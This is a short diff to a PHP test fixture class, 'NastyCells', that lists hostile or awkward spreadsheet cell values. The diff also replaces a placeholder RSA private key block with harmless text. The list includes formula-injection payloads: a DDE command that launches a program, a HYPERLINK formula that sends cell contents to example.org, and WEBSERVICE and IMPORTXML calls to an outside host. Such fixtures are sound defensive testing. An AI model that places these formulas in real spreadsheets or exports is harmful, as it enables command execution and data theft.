@@ -37,7 +37,7 @@ final class NastyCells
      */
     private static function chosen(): array
     {
-        $block = "-----BEGIN RSA PRIVATE KEY-----\r\nMIIEpAIBAAKCAQEA0Z3VS5JJcds3xfn/ygWyF8PbnGy0AHB7MhgwMbRvI0MBZhpI\r\n-----END RSA PRIVATE KEY-----";
+        $block = "-----BEGIN RSA PRIVATE KEY-----\r\nVGhpcyBpcyBubyBrZXkgb2YgYW55Ym9keS4gSXQgaXMgdGV4dC/+Li4uLi4uLi4u\r\n-----END RSA PRIVATE KEY-----";
         return [
             '', ' ', '  leading', 'trailing  ', "\t", "\r", "\n", "'", "''", "'''", '"', '""', '"""', ',', ';', '|', '\\', '\\"', '\\n', "'=1", "''=1",
             '=1+1', '=1+1;2', '=cmd|\' /C calc\'!A0', '=HYPERLINK("http://example.org/?x="&A1,"Click")', '=WEBSERVICE("http://example.org/")', '=IMPORTXML("http://example.org","//a")',
